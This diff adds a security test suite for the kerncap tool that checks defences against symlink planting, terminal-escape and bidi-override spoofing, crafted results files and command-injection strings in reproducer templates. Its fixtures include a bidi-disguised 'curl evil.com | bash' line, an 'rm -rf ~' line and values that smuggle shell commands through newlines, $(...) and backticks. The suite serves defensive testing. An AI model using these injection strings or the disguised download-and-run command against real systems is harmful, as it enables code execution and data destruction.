@@ -1,0 +1,485 @@
+/**
+ * The attack suite of kerncap's own writers and printers (docs/security.md), run in CI on the CPU:
+ * each test plays one attack as another local user sharing a folder, a colleague's archive or a
+ * crafted results file would, and asserts it is refused (exit 2, a message naming the cause) or
+ * comes to nothing.
+ *  - files written beside the user's: links planted at the temp names of the next pids, a target
+ *    that is a link (results.jsonl, profile/, the JUnit report);
+ *  - untrusted text before a terminal: ESC, OSC, C1, bidi overrides, line separators and newlines
+ *    in an archive's index, a check record's kernel name, pack's warnings, the build.sh shown
+ *    before --trust;
+ *  - crafted results files (--merge, --baseline, --write-baseline);
+ *  - an unbounded --grid expression;
+ *  - hostile kernel names and paths rendered through every reproducer template, then run.
+ */
+import { describe, expect, test } from "bun:test";
+import { chmodSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { writeBaseline, BASELINE_SCHEMA } from "../../src/check/baseline.ts";
+import { mergeResults, runCheck, writeJunit, type CheckOptions } from "../../src/check/check.ts";
+import type { OpenRunner } from "../../src/check/pool.ts";
+import { CheckProgress } from "../../src/check/progress.ts";
+import { RESULTS_FILE } from "../../src/check/results.ts";
+import { runCli } from "../../src/cli/main.ts";
+import { KerncapError } from "../../src/errors.ts";
+import { escapeForTerminal } from "../../src/escape.ts";
+import { log } from "../../src/log.ts";
+import { packCapture, PACK_INDEX, type PackIndex } from "../../src/format/archive.ts";
+import { readManifest } from "../../src/format/capture-dir.ts";
+import type { CheckRecord, Outcome } from "../../src/format/check-record.ts";
+import { documentId } from "../../src/format/documents.ts";
+import { requireTrustedBuild } from "../../src/format/trust.ts";
+import { CHECKOUT_TEMPLATES, renderTemplateDir, TEMPLATE_ESCAPES } from "../../src/frontends/templates.ts";
+import { evalGrid } from "../../src/tune/space.ts";
+import { makeCapture, tempDir } from "./fixtures.ts";
+import { rawZip, readRawZip, storedEntry } from "./zip-fixture.ts";
+
+const H200 = { name: "NVIDIA H200", arch: "sm_90" };
+const MAIN = join(import.meta.dir, "../../src/cli/main.ts");
+/** What a terminal must never be given raw: ESC, BEL, CSI as one C1 byte, bidi overrides and isolates, line separators. */
+const RAW_CONTROLS = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
+/** An OSC that sets the window title, a screen clear, a C1 CSI, a bidi override, a line separator, a fake line. */
+const HOSTILE_TEXT = "k\x1b]0;PWNED\x07\x1b[2J\x9b31m\u202eexe.txt\u2028\nFAKE: all good";
+
+/** stderr and stdout written during fn, and fn's result or error. */
+async function output<T>(fn: () => T | Promise<T>): Promise<{ err: string; out: string; value?: T; error?: unknown }> {
+  let err = "";
+  let out = "";
+  const [e0, o0] = [process.stderr.write.bind(process.stderr), process.stdout.write.bind(process.stdout)];
+  const grab = (add: (s: string) => void) => ((s: string | Uint8Array) => (add(typeof s === "string" ? s : new TextDecoder().decode(s)), true)) as typeof process.stderr.write;
+  process.stderr.write = grab((s) => (err += s));
+  process.stdout.write = grab((s) => (out += s));
+  let value: T | undefined;
+  let error: unknown;
+  try {
+    value = await fn();
+  } catch (e) {
+    error = e;
+  } finally {
+    process.stderr.write = e0;
+    process.stdout.write = o0;
+  }
+  return { err, out, value, error };
+}
+
+async function refusal(fn: () => unknown): Promise<KerncapError> {
+  try {
+    await fn();
+  } catch (e) {
+    if (e instanceof KerncapError) return e;
+    throw e;
+  }
+  throw new Error("no refusal");
+}
+
+/**
+ * The victim of a planted link: a file outside the folder, and links to it at `FILE.tmp-<pid>` for
+ * this process's pid and the next 64 (what kerncap's writers named their temps).
+ */
+function plantTempLinks(file: string): { victim: string; intact: () => boolean } {
+  const victim = join(tempDir(), "victim.txt");
+  writeFileSync(victim, "precious\n");
+  for (let pid = process.pid; pid < process.pid + 64; pid++) symlinkSync(victim, `${file}.tmp-${pid}`);
+  return { victim, intact: () => readFileSync(victim, "utf8") === "precious\n" };
+}
+
+function outcome(id: string, o: Partial<Outcome> = {}): Outcome {
+  const samples = Array.from({ length: 20 }, (_, i) => 10 * (0.98 + (0.04 * i) / 19));
+  return { id, path: `/x/${id}`, kernel: "scale(float*, int)", outcome: "done", verdict: "match", numerics: "bit-exact", reason: null, code: null, note: null, captured: H200, device: H200, rebuild: null, timing: { medianUs: 10, samplesUs: samples }, seconds: 0.01, replaySeconds: 0.005, at: "2026-01-01T00:00:00.000Z", ...o };
+}
+
+function record(id: string, o: Partial<CheckRecord> = {}): CheckRecord {
+  return { ...outcome(id), status: "ok", time: { verdict: "no-baseline", ratio: null, low: null, high: null, baselineMedianUs: null, slowerPct: 10, reason: null }, worker: 0, gpu: null, shard: null, ...o };
+}
+
+const jsonl = (recs: object[]) => recs.map((r) => JSON.stringify({ schema: documentId("check-record"), ...r })).join("\n") + "\n";
+
+/** A corpus of one capture, and runCheck options whose workers answer `o` without a GPU. */
+async function oneCaptureCheck(results: string, o: Partial<Outcome> = {}, extra: Partial<CheckOptions> = {}): Promise<CheckOptions> {
+  const root = join(tempDir(), "corpus");
+  await makeCapture(join(root, "a"));
+  const open: OpenRunner = () => ({ run: async (t) => ({ ...outcome(t.id), path: t.path, ...o }), kill() {}, close: async () => {} });
+  return { paths: [root], settings: { iters: 20, verify: true, rebuild: false, force: false, trust: false, tolerance: {} }, results, resume: false, slowerPct: 10, gpus: [null], live: false, open: () => open, ...extra };
+}
+
+describe("files written beside the user's: no link is followed", () => {
+  test("--junit into a folder where links to another file are planted at FILE.tmp-<pid> for the next pids: that file is untouched", async () => {
+    const dir = tempDir();
+    const junit = join(dir, "check.xml");
+    const { intact } = plantTempLinks(junit);
+    const r = mergeResults([writeResults(dir, [record("a")])], { slowerPct: 10 });
+    writeJunit(junit, r);
+    expect(intact()).toBe(true);
+    expect(lstatSync(junit).isFile()).toBe(true);
+    expect(readFileSync(junit, "utf8")).toContain("<testsuites");
+  });
+
+  test("--write-baseline with planted temp links: the linked file is untouched, the baseline written", async () => {
+    const dir = tempDir();
+    const out = join(dir, "baseline.json");
+    const { intact } = plantTempLinks(out);
+    const { value } = await output(() => runCli(["check", "--merge", writeResults(dir, [record("a")]), "--write-baseline", out]));
+    expect(value).toBe(0);
+    expect(intact()).toBe(true);
+    expect(JSON.parse(readFileSync(out, "utf8")).captures.a.medianUs).toBe(10);
+  });
+
+  test("RESULTS/baseline.json a check records, with planted temp links: the linked file is untouched", async () => {
+    const results = join(tempDir(), "res");
+    mkdirSync(results);
+    const { intact } = plantTempLinks(join(results, "baseline.json"));
+    const o = await oneCaptureCheck(results);
+    await output(() => runCheck(o));
+    expect(intact()).toBe(true);
+    expect(Object.keys(JSON.parse(readFileSync(join(results, "baseline.json"), "utf8")).captures)).toEqual(["corpus/a"]);
+  });
+
+  test("pack -o with planted temp links: the linked file is neither truncated nor written", async () => {
+    const root = tempDir();
+    await makeCapture(join(root, "cap"));
+    const out = join(root, "cap.zip");
+    const { intact } = plantTempLinks(out);
+    await packCapture(join(root, "cap"), out);
+    expect(intact()).toBe(true);
+    expect(readFileSync(out).subarray(0, 2).toString()).toBe("PK");
+  });
+
+  test("a target that is itself a link (--junit, --write-baseline, pack -o): exit 2 naming it, nothing written through it", async () => {
+    const dir = tempDir();
+    const victim = join(dir, "victim.txt");
+    writeFileSync(victim, "precious\n");
+    const res = writeResults(dir, [record("a")]);
+    for (const [opt, name] of [["--junit", "j.xml"], ["--write-baseline", "b.json"]] as const) {
+      symlinkSync(victim, join(dir, name));
+      const { value, err } = await output(() => runCli(["check", "--merge", res, opt, join(dir, name)]));
+      expect(value, err).toBe(2);
+      expect(err).toContain(`${join(dir, name)} (${opt}) is a symbolic link`);
+      expect(lstatSync(join(dir, name)).isSymbolicLink()).toBe(true);
+    }
+    // -o a link to an archive of kerncap's elsewhere, with --force: refused, never replaced nor written through
+    await makeCapture(join(dir, "cap"));
+    const other = join(tempDir(), "other.zip");
+    await packCapture(join(dir, "cap"), other);
+    const before = readFileSync(other);
+    symlinkSync(other, join(dir, "cap.zip"));
+    const e = await refusal(() => packCapture(join(dir, "cap"), join(dir, "cap.zip"), { force: true }));
+    expect(e.code).toBe("E_UNSAFE_PATH");
+    expect(readFileSync(other).equals(before)).toBe(true);
+    expect(lstatSync(join(dir, "cap.zip")).isSymbolicLink()).toBe(true);
+    expect(readFileSync(victim, "utf8")).toBe("precious\n");
+  });
+
+  test("results.jsonl a link (check --resume): refused, the linked file neither cut nor appended to", async () => {
+    const results = join(tempDir(), "res");
+    mkdirSync(results);
+    const victim = join(tempDir(), "victim.jsonl");
+    writeFileSync(victim, "");
+    symlinkSync(victim, join(results, RESULTS_FILE));
+    const o = await oneCaptureCheck(results, {}, { resume: true });
+    const { error } = await output(() => runCheck(o));
+    expect(error).toBeInstanceOf(KerncapError);
+    expect((error as KerncapError).code).toBe("E_UNSAFE_PATH");
+    expect((error as KerncapError).message).toContain(`${join(results, RESULTS_FILE)} (the check's results file) is a symbolic link`);
+    expect(readFileSync(victim, "utf8")).toBe("");
+  });
+
+  test("results.jsonl a dangling link: refused, no file created where it points", async () => {
+    for (const resume of [false, true]) {
+      const results = join(tempDir(), "res");
+      mkdirSync(results);
+      const target = join(tempDir(), "created.jsonl");
+      symlinkSync(target, join(results, RESULTS_FILE));
+      const o = await oneCaptureCheck(results, {}, { resume });
+      const { error } = await output(() => runCheck(o));
+      expect((error as KerncapError).code, String(error)).toBe("E_UNSAFE_PATH");
+      expect(existsSync(target)).toBe(false);
+    }
+  });
+
+  test("profile/ a link to another folder: refused before the profiler runs, nothing written there", async () => {
+    const root = tempDir();
+    const dir = join(root, "cap");
+    await makeCapture(dir);
+    const elsewhere = join(root, "elsewhere");
+    mkdirSync(elsewhere);
+    symlinkSync(elsewhere, join(dir, "profile"));
+    // a fake ncu that writes the report where it is told and says it ran
+    const bin = join(root, "bin");
+    mkdirSync(bin);
+    const ran = join(root, "ncu-ran");
+    writeFileSync(join(bin, "ncu"), `#!/bin/bash\ntouch ${ran}\nwhile [ $# -gt 0 ]; do if [ "$1" = --export ]; then touch "$2.ncu-rep"; fi; shift; done\nexit 1\n`);
+    chmodSync(join(bin, "ncu"), 0o755);
+    const path = process.env.PATH;
+    process.env.PATH = `${bin}:${path}`;
+    try {
+      const { value, err } = await output(() => runCli(["profile", dir]));
+      expect(value, err).toBe(2);
+      expect(err).toContain("profile");
+      expect(err).toContain("symbolic link");
+    } finally {
+      process.env.PATH = path;
+    }
+    expect(existsSync(ran)).toBe(false);
+    expect(readdirSync(elsewhere)).toEqual([]);
+  });
+});
+
+/** Write records as a results file in dir; @returns its path. */
+function writeResults(dir: string, recs: object[], name = "r.jsonl"): string {
+  const p = join(dir, name);
+  writeFileSync(p, jsonl(recs));
+  return p;
+}
+
+describe("untrusted text never reaches a terminal raw", () => {
+  /** A packed capture whose archive is rewritten: index `idx` (from the packed one) and entries renamed under `root`. */
+  async function evilArchive(edit: (idx: PackIndex) => PackIndex) {
+    const dir = tempDir();
+    await makeCapture(join(dir, "cap"));
+    const p = await packCapture(join(dir, "cap"), join(dir, "cap.zip"));
+    const entries = readRawZip(p.archive);
+    const idx = edit(JSON.parse(new TextDecoder().decode(Bun.inflateSync(entries[0]!.data as Uint8Array<ArrayBuffer>))) as PackIndex);
+    const rename = (n: string) => `${idx.root}${n.slice("cap".length)}`;
+    const files = idx.files.map((f) => ({ ...f, entry: rename(f.entry) }));
+    const out = join(dir, "evil.zip");
+    writeFileSync(out, rawZip([storedEntry(`${idx.root}/${PACK_INDEX}`, JSON.stringify({ ...idx, files })), ...entries.slice(1).map((e) => ({ ...e, name: rename(e.name) }))]));
+    return { dir, archive: out };
+  }
+
+  test("an archive's index warnings with ESC, OSC, C1, U+202E and newlines: unpack prints each escaped, on one line", async () => {
+    const a = await evilArchive((idx) => ({ ...idx, warnings: [HOSTILE_TEXT] }));
+    const { value, err } = await output(() => runCli(["unpack", a.archive, "-o", join(a.dir, "out")]));
+    expect(value, err).toBe(0);
+    expect(err).not.toMatch(RAW_CONTROLS);
+    const line = err.split("\n").find((l) => l.includes("noted at pack time"))!;
+    expect(line).toContain("k\\x1b]0;PWNED\\x07\\x1b[2J\\x9b31m\\u202eexe.txt\\u2028\\nFAKE: all good");
+    expect(err).not.toMatch(/^FAKE/m);
+  });
+
+  test("an archive's root folder named with ESC and a newline: exit 2 naming it escaped, no folder made", async () => {
+    const a = await evilArchive((idx) => ({ ...idx, root: "cap\x1b]0;PWNED\x07\nx" }));
+    const cwd = process.cwd();
+    process.chdir(a.dir);
+    try {
+      const { value, err } = await output(() => runCli(["unpack", a.archive]));
+      expect(value, err).toBe(2);
+      expect(err).not.toMatch(RAW_CONTROLS);
+      expect(err).toContain("root folder name");
+    } finally {
+      process.chdir(cwd);
+    }
+    expect(readdirSync(a.dir).sort()).toEqual(["cap", "cap.zip", "evil.zip"]);
+  });
+
+  test("check's per-capture line with a kernel name and an id holding ESC, C1, U+202E and a newline: one escaped line", () => {
+    let err = "";
+    const p = new CheckProgress(1, { live: false, write: (s) => void (err += s) });
+    p.finished(record(`corpus/${HOSTILE_TEXT}`, { kernel: HOSTILE_TEXT }), 0);
+    p.line(`worker: ${HOSTILE_TEXT}`);
+    expect(err).not.toMatch(RAW_CONTROLS);
+    expect(err.split("\n").filter(Boolean)).toHaveLength(3); // the record's line; the worker's two (its newline kept, escaped inside)
+    expect(err.split("\n")[0]).toContain("k\\x1b]0;PWNED\\x07");
+  });
+
+  test("pack's warnings naming a path from build.sh with OSC and C1: escaped", async () => {
+    const root = tempDir();
+    const dir = join(root, "cap");
+    await makeCapture(dir);
+    writeFileSync(join(dir, "build.sh"), "#!/bin/bash\nnvcc -I/opt/evil\x1b[2J\x07\x9b31m\u202edir/include k.cu\n");
+    const { value, err } = await output(() => runCli(["pack", dir]));
+    expect(value, err).toBe(0);
+    expect(err).toContain("/opt/evil\\x1b[2J\\x07\\x9b31m\\u202edir/include");
+    expect(err).not.toMatch(RAW_CONTROLS);
+  });
+
+  test("the build.sh shown before --trust: U+202E, U+2066, C1 and U+2028 shown escaped", async () => {
+    const root = tempDir();
+    const dir = join(root, "cap");
+    await makeCapture(dir);
+    const m = JSON.parse(readFileSync(join(dir, "kerncap.json"), "utf8"));
+    m.host = { name: "elsewhere", machineId: "0123456789abcdef0123456789abcdef" }; // made on another machine: received
+    writeFileSync(join(dir, "kerncap.json"), JSON.stringify(m));
+    writeFileSync(join(dir, "build.sh"), "#!/bin/bash\necho ok # \u202e\u2066 ;hsab | moc.live//:sptth lruc\u2069\n\x9b2J\u2028rm -rf ~\n");
+    const { err, error } = await output(() => requireTrustedBuild(dir, readManifest(dir), false));
+    expect((error as KerncapError).code).toBe("E_UNTRUSTED");
+    expect(err).toContain("\\u202e\\u2066 ;hsab");
+    expect(err).toContain("\\x9b2J\\u2028rm -rf ~");
+    expect(err).not.toMatch(RAW_CONTROLS);
+  });
+
+  test("the log escapes whatever it is given (a compiler's message, an error quoting a manifest); --json documents stay JSON", async () => {
+    expect(escapeForTerminal(HOSTILE_TEXT)).not.toMatch(RAW_CONTROLS);
+    const logged = await output(() => {
+      log.warn(`nvcc said: ${HOSTILE_TEXT}`);
+      log.error(new KerncapError("E_MANIFEST", HOSTILE_TEXT).message);
+    });
+    expect(logged.err).toContain("nvcc said: k\\x1b]0;PWNED\\x07\\x1b[2J\\x9b31m\\u202eexe.txt\\u2028");
+    expect(logged.err).not.toMatch(RAW_CONTROLS);
+    const dir = tempDir();
+    const res = writeResults(dir, [record("a", { kernel: HOSTILE_TEXT })]);
+    // a process of its own: check sets stdout aside for its data (src/cli/args.ts keepStdoutForData)
+    const run = (...extra: string[]) => Bun.spawnSync([process.execPath, MAIN, "check", "--merge", res, ...extra], { stdout: "pipe", stderr: "pipe" });
+    const text = run();
+    expect(text.exitCode).toBe(0);
+    expect(text.stdout.toString()).toContain("k\\x1b]0;PWNED");
+    expect(text.stdout.toString() + text.stderr.toString()).not.toMatch(RAW_CONTROLS);
+    const json = run("--json");
+    expect(JSON.parse(json.stdout.toString()).captures[0].kernel).toBe(HOSTILE_TEXT);
+  });
+});
+
+describe("crafted results files", () => {
+  test("--merge of a record whose time judgement has a null interval: exit 2 naming the file and line", async () => {
+    const dir = tempDir();
+    const bad = record("b", { status: "slower", time: { verdict: "slower", ratio: 1.5, low: null, high: 1.6, baselineMedianUs: 10, slowerPct: 10, reason: "x" } });
+    const f = writeResults(dir, [record("a"), bad]);
+    const e = await refusal(() => mergeResults([f], { slowerPct: 10 }));
+    expect(e.code).toBe("E_RESULTS");
+    expect(e.message).toContain(`${f}, line 2: time.low is null`);
+    const { value, err } = await output(() => runCli(["check", "--merge", f]));
+    expect(value).toBe(2);
+    expect(err).not.toContain("internal error");
+    // the same record in a --json document: named by its index
+    const doc = join(dir, "doc.json");
+    writeFileSync(doc, JSON.stringify({ captures: [record("a"), bad] }));
+    expect((await refusal(() => mergeResults([doc], { slowerPct: 10 }))).message).toContain(`${doc}, captures[1]: time.low is null`);
+  });
+
+  test("ids __proto__ and constructor: judged against their own baseline entries, and written to a baseline, none dropped", async () => {
+    const dir = tempDir();
+    const samples = Array.from({ length: 20 }, (_, i) => 10 * (0.98 + (0.04 * i) / 19));
+    const entry = { kernel: "k", device: H200, samplesUs: samples, medianUs: 10, at: "2026-01-01T00:00:00.000Z" };
+    const base = join(dir, "base.json");
+    writeFileSync(base, `{"schema":"${BASELINE_SCHEMA}","captures":{"__proto__":${JSON.stringify(entry)},"constructor":${JSON.stringify(entry)},"toString":${JSON.stringify(entry)}}}`);
+    const f = writeResults(dir, ["__proto__", "constructor", "toString", "hasOwnProperty"].map((id) => record(id)));
+    const r = mergeResults([f], { slowerPct: 10, baseline: base });
+    expect(r.captures.map((c) => `${c.id}: ${c.time?.verdict}`).sort()).toEqual(["__proto__: same", "constructor: same", "hasOwnProperty: no-baseline", "toString: same"]);
+    const out = join(dir, "out.json");
+    mergeResults([f], { slowerPct: 10, writeBaseline: out });
+    expect(Object.keys(JSON.parse(readFileSync(out, "utf8")).captures).sort()).toEqual(["__proto__", "constructor", "hasOwnProperty", "toString"]);
+    const { value, err } = await output(() => runCli(["check", "--merge", f, "--baseline", base]));
+    expect(value, err).toBe(0);
+    // a baseline written by writeBaseline reads back with the same ids
+    writeBaseline(join(dir, "again.json"), JSON.parse(readFileSync(out, "utf8")));
+    expect(Object.keys(JSON.parse(readFileSync(join(dir, "again.json"), "utf8")).captures)).toHaveLength(4);
+  });
+});
+
+describe("bounded expressions", () => {
+  test("tune --grid of 20 000 nested parentheses, or 3 000 signs: E_USAGE (exit 2), no stack overflow", () => {
+    for (const src of ["(".repeat(20000) + "1" + ")".repeat(20000), "-".repeat(3000) + "1", "(".repeat(2000) + "1" + ")".repeat(2000)]) {
+      let e: unknown;
+      try {
+        evalGrid(src, { M: 1 });
+      } catch (x) {
+        e = x;
+      }
+      expect(e).toBeInstanceOf(KerncapError);
+      expect((e as KerncapError).code).toBe("E_USAGE");
+      expect((e as KerncapError).message.length).toBeLessThan(400);
+    }
+    expect(evalGrid("cdiv(M, 2) * ((((3))))", { M: 8 })).toEqual([12, 1, 1]);
+    expect(() => evalGrid("constructor", {})).toThrow("unknown name constructor");
+    expect(() => evalGrid("constructor(1, 2)", {})).toThrow("unknown function constructor");
+  });
+});
+
+describe("hostile names through every reproducer template", () => {
+  /** Names a capture could carry: a newline then a command, $(…), backticks, quotes, a comment's end, Python's triple quote, U+202E. */
+  const HOSTILE = "evil\n touch PWNED_NL\n$(touch PWNED_SUB)`touch PWNED_BT`'\"*/\"\"\"\u202e#";
+  /** The same as a file name (no slash). */
+  const HOSTILE_FILE = HOSTILE.replace("/", "");
+  const pwned = (dir: string) => readdirSync(dir).filter((n) => n.startsWith("PWNED"));
+
+  /** A context where every field a template reads is hostile (flags as the renderers pass them: shell words). */
+  function hostileCtx(extra: Record<string, unknown> = {}): Record<string, unknown> {
+    const h = HOSTILE;
+    return {
+      kernelName: h, kernelDisplayName: h, arch: h, originalSource: h, definitionCopy: h, compiledSource: h, tuSource: h, sliceKind: h, sliceReason: h,
+      projectRoot: h, flags: TEMPLATE_ESCAPES.shq!(`-DX=${h}`), flagsFrom: h, assumed: h, missing: h, method: h, copiedCount: 1, referenced: 0, overlay: false, rdc: false, sliced: true,
+      sourceCopy: h, files: [{ original: h, copy: h }], kernelFile: h, tritonVersion: h, python: h, sourceFile: h, originalCopy: h, command: h, match: h, matchIndex: h, device: h,
+      pinnedSummary: h, autotuneSummary: h, numWarps: h, ...extra,
+    };
+  }
+
+  function render(frontend: string, ctx: Record<string, unknown>): string {
+    const out = tempDir();
+    renderTemplateDir(join(CHECKOUT_TEMPLATES, frontend), out, ctx);
+    return out;
+  }
+
+  /** The README holds no raw line of the name: its newline, bidi override and controls are escaped. */
+  function readmeIsInert(out: string): void {
+    const md = readFileSync(join(out, "README.md"), "utf8");
+    expect(md).not.toMatch(/^ touch PWNED_NL/m);
+    expect(md).not.toContain("\u202e");
+    expect(md).toContain("evil\\n touch PWNED_NL");
+  }
+
+  /** A fake compiler on PATH that writes the file after -o and records its arguments. */
+  function fakeTool(name: string): { bin: string; argsFile: string } {
+    const bin = tempDir();
+    const argsFile = join(bin, "args");
+    writeFileSync(join(bin, name), `#!/bin/bash\nprintf '%s\\n' "$@" >>"${argsFile}"\nwhile [ $# -gt 0 ]; do if [ "$1" = -o ]; then : >"$2"; fi; shift; done\n`);
+    chmodSync(join(bin, name), 0o755);
+    return { bin, argsFile };
+  }
+
+  function runScript(out: string, env: Record<string, string>): { code: number; err: string } {
+    const syntax = Bun.spawnSync(["bash", "-n", join(out, "build.sh")], { stderr: "pipe" });
+    expect(syntax.exitCode, syntax.stderr.toString()).toBe(0);
+    const p = Bun.spawnSync(["bash", join(out, "build.sh")], { cwd: out, env: { ...process.env, ...env }, stdout: "pipe", stderr: "pipe" });
+    return { code: p.exitCode ?? -1, err: p.stderr.toString() };
+  }
+
+  for (const sliced of [true, false]) {
+    test(`CUDA build.sh (${sliced ? "sliced" : "whole TU"}) and README.md: nothing from the name runs; nvcc gets the names as single words`, () => {
+      const out = render("cuda", hostileCtx({ sliced, rdc: !sliced, tuSource: HOSTILE_FILE, compiledSource: HOSTILE_FILE }));
+      mkdirSync(join(out, "src"));
+      writeFileSync(join(out, "src", HOSTILE_FILE), "__global__ void k() {}\n");
+      const nvcc = fakeTool("nvcc");
+      const r = runScript(out, { NVCC: join(nvcc.bin, "nvcc") });
+      expect(r.code, r.err).toBe(0);
+      expect(pwned(out)).toEqual([]);
+      const args = readFileSync(nvcc.argsFile, "utf8");
+      expect(args).toContain(`-DX=${HOSTILE}\n`); // the flag is one word, newline and all
+      expect(args).toContain(`-arch=${HOSTILE}\n`);
+      readmeIsInert(out);
+    });
+  }
+
+  test("HIP build.sh (its heredoc of YAML) and README.md: nothing from the name runs; the overlay holds the exact names", () => {
+    const out = render("hip", hostileCtx());
+    const hipcc = fakeTool("hipcc");
+    const r = runScript(out, { HIPCC: join(hipcc.bin, "hipcc") });
+    expect(r.code, r.err).toBe(0);
+    expect(pwned(out)).toEqual([]);
+    const yaml = readFileSync(join(out, "build/overlay.yaml"), "utf8");
+    // the YAML's double-quoted scalars (JSON's escapes) read back to the name itself
+    const names = [...yaml.matchAll(/'name': ("(?:[^"\\]|\\.)*")/g)].map((m) => JSON.parse(m[1]!));
+    expect(names).toEqual([HOSTILE]);
+    readmeIsInert(out);
+  });
+
+  test("Triton build.sh, README.md and repro.py: nothing from the name runs; repro.py compiles", () => {
+    const out = render("triton", hostileCtx());
+    const py = fakeTool("python");
+    const r = runScript(out, { KERNCAP_PYTHON: join(py.bin, "python") });
+    expect(r.code, r.err).toBe(0);
+    expect(pwned(out)).toEqual([]);
+    readmeIsInert(out);
+    const c = Bun.spawnSync(["python3", "-c", "import sys; compile(open(sys.argv[1]).read(), 'repro.py', 'exec')", join(out, "repro.py")], { stderr: "pipe" });
+    expect(c.exitCode, c.stderr.toString()).toBe(0);
+  });
+
+  test("the Python and C literal escapes read back to the name in python3 and a C compiler", () => {
+    const py = Bun.spawnSync(["python3", "-c", `import sys; sys.stdout.write(${TEMPLATE_ESCAPES.pyStr!(HOSTILE)})`], { stdout: "pipe", stderr: "pipe" });
+    expect(py.stdout.toString(), py.stderr.toString()).toBe(HOSTILE);
+    const dir = tempDir();
+    writeFileSync(join(dir, "t.c"), `#include <stdio.h>\n/* ${TEMPLATE_ESCAPES.cComment!(HOSTILE)} */\nint main(void) { fputs(${TEMPLATE_ESCAPES.cStr!(HOSTILE)}, stdout); return 0; }\n`);
+    const cc = Bun.spawnSync(["cc", "-o", join(dir, "t"), join(dir, "t.c")], { stderr: "pipe" });
+    expect(cc.exitCode, cc.stderr.toString()).toBe(0);
+    expect(Bun.spawnSync([join(dir, "t")], { stdout: "pipe" }).stdout.toString()).toBe(HOSTILE);
+    expect(pwned(dir)).toEqual([]);
+  });
+});
